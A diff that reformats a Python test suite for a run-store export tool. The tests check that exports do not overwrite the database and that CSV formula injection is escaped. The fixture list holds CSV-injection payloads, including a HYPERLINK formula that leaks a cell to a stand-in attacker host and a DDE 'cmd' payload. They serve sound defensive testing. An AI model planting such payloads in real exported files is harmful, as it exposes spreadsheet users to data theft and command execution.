@@ -20,8 +20,15 @@ from runs_store.ingest.pipeline import ingest_paths
 from runs_store.services.export import export_bytes, neutralise_formulas
 from runs_store.store.database import open_db
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click\")", "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1+1)", "\tTAB first", "\rCR first", "'=already quoted"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTAB first",
+    "\rCR first",
+    "'=already quoted",
+]
 
 
 @pytest.fixture
@@ -37,14 +44,21 @@ def runs_in(db) -> int:
 
 # ------------------------------------------------------------------ the store as output
 
-@pytest.mark.parametrize("spelling", ["absolute", "relative", "dotted", "symlink", "hardlink",
-                                      "wal"])
+
+@pytest.mark.parametrize(
+    "spelling", ["absolute", "relative", "dotted", "symlink", "hardlink", "wal"]
+)
 def test_export_refuses_to_write_over_the_store_however_it_is_named(store, spelling):
     before = runs_in(store)
     folder = store.parent
-    output = {"absolute": str(store), "relative": store.name,
-              "dotted": f"./../{folder.name}/{store.name}", "symlink": "link.csv",
-              "hardlink": "hard.csv", "wal": store.name + ".wal"}[spelling]
+    output = {
+        "absolute": str(store),
+        "relative": store.name,
+        "dotted": f"./../{folder.name}/{store.name}",
+        "symlink": "link.csv",
+        "hardlink": "hard.csv",
+        "wal": store.name + ".wal",
+    }[spelling]
     if spelling == "symlink":
         (folder / "link.csv").symlink_to(store)
     if spelling == "hardlink":
@@ -66,9 +80,23 @@ def test_an_export_that_fails_half_way_leaves_the_earlier_file_as_it_was(store, 
     earlier = tmp_path / "failed.csv"
     earlier.write_text("the export of yesterday\n")
     result = subprocess.run(
-        [sys.executable, "-m", "runs_store", "export", "--db", str(store), "--output",
-         str(earlier)], cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
-        capture_output=True, text=True, timeout=120, preexec_fn=small_file_limit)
+        [
+            sys.executable,
+            "-m",
+            "runs_store",
+            "export",
+            "--db",
+            str(store),
+            "--output",
+            str(earlier),
+        ],
+        cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        preexec_fn=small_file_limit,
+    )
     assert result.returncode == 2, result.stderr
     assert "File too large" in result.stderr and "Traceback" not in result.stderr
     assert earlier.read_text() == "the export of yesterday\n"
@@ -91,8 +119,10 @@ def test_export_into_a_folder_is_refused_with_a_message(store, tmp_path):
 
 # ------------------------------------------------------------------ reading commands and --db
 
-@pytest.mark.parametrize("command", [["export"], ["rejects"],
-                                     ["export", "--format", "jsonl", "--output", "x.jsonl"]])
+
+@pytest.mark.parametrize(
+    "command", [["export"], ["rejects"], ["export", "--format", "jsonl", "--output", "x.jsonl"]]
+)
 def test_a_reading_command_with_a_mistyped_db_creates_nothing(tmp_path, command):
     missing = tmp_path / "typo" / "runz.duckdb"
     result = run_cli(*command, "--db", str(missing), cwd=tmp_path)
@@ -103,11 +133,18 @@ def test_a_reading_command_with_a_mistyped_db_creates_nothing(tmp_path, command)
 
 # ------------------------------------------------------------------ CSV formula injection
 
+
 @pytest.fixture
 def formula_store(tmp_path):
-    records = [simple_run(f"f-{n}", flow=text, status="FAILED",
-                          failedStep={"name": "step_1", "displayName": text, "message": text})
-               for n, text in enumerate(FORMULAS)]
+    records = [
+        simple_run(
+            f"f-{n}",
+            flow=text,
+            status="FAILED",
+            failedStep={"name": "step_1", "displayName": text, "message": text},
+        )
+        for n, text in enumerate(FORMULAS)
+    ]
     db = tmp_path / "formulas.duckdb"
     ingest_paths(db, [write_jsonl(tmp_path / "formulas.jsonl", records)])
     return db
@@ -121,8 +158,17 @@ def csv_rows(data: bytes) -> list[dict]:
 def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(formula_store, tmp_path, how):
     if how == "cli":
         out = tmp_path / "out.csv"
-        assert run_cli("export", "--db", str(formula_store), "--output", str(out),
-                       env={"RUNS_MASK_SECRETS": "0"}).returncode == 0
+        assert (
+            run_cli(
+                "export",
+                "--db",
+                str(formula_store),
+                "--output",
+                str(out),
+                env={"RUNS_MASK_SECRETS": "0"},
+            ).returncode
+            == 0
+        )
         data = out.read_bytes()
     else:
         with open_db(formula_store, read_only=True) as con:
@@ -139,13 +185,16 @@ def test_numbers_and_booleans_stay_unquoted_in_csv(formula_store):
     with open_db(formula_store, read_only=True) as con:
         data = export_bytes(con, "csv", mask=False).decode()
     first = data.splitlines()[1]
-    assert ",0,\"step_1\",false," in first  # duration_ms 0, archived false: not text cells
+    assert ',0,"step_1",false,' in first  # duration_ms 0, archived false: not text cells
 
 
 def test_neutralising_leaves_safe_text_numbers_and_nulls_alone():
-    batch = pa.RecordBatch.from_pydict({
-        "text": ["plain", "=1", None, "a=b", "", "'plain", "''+x"],
-        "number": [-1, 2, None, 4, 5, 6, 7]})
+    batch = pa.RecordBatch.from_pydict(
+        {
+            "text": ["plain", "=1", None, "a=b", "", "'plain", "''+x"],
+            "number": [-1, 2, None, 4, 5, 6, 7],
+        }
+    )
     out = neutralise_formulas(batch).to_pydict()
     assert out["text"] == ["plain", "'=1", None, "a=b", "", "'plain", "'''+x"]
     assert out["number"] == [-1, 2, None, 4, 5, 6, 7]
@@ -153,8 +202,17 @@ def test_neutralising_leaves_safe_text_numbers_and_nulls_alone():
 
 def test_a_neutralised_csv_loads_back_as_the_same_runs(formula_store, tmp_path):
     out = tmp_path / "out.csv"
-    assert run_cli("export", "--db", str(formula_store), "--output", str(out),
-                   env={"RUNS_MASK_SECRETS": "0"}).returncode == 0
+    assert (
+        run_cli(
+            "export",
+            "--db",
+            str(formula_store),
+            "--output",
+            str(out),
+            env={"RUNS_MASK_SECRETS": "0"},
+        ).returncode
+        == 0
+    )
     again = tmp_path / "again.duckdb"
     summary = ingest_paths(again, [out])
     assert summary.rejected == 0
